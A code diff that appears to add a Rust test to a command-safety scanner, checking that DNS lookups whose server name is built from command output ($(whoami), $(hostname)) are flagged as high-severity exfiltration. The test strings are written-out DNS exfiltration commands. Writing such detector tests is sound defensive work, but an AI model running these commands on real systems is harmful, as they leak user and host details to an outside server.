@@ -414,3 +414,24 @@ fn devdocsj_and_ppnf() {
         Severity::High,
     );
 }
+
+/// Review of session 51's DNS-server mend: only a server the output names
+/// whole is asked; a server name built from output beside a fixed domain
+/// is looked up to find the server, a name built from data.
+#[test]
+fn a_dns_server_name_built_from_output_is_still_exfiltration() {
+    flagged_each(
+        &[
+            "nslookup x.example $(whoami).x.example.net",
+            "dig @$(hostname).x.example.net a.example",
+            "host x.example $(whoami).$(hostname).x.example.net",
+            "nslookup x.example $(a).$(b)",
+        ],
+        Category::Exfiltration,
+        Severity::High,
+    );
+    each(
+        &["nslookup hello-john.test $(minikube ip)"],
+        "Exfiltration Medium",
+    );
+}
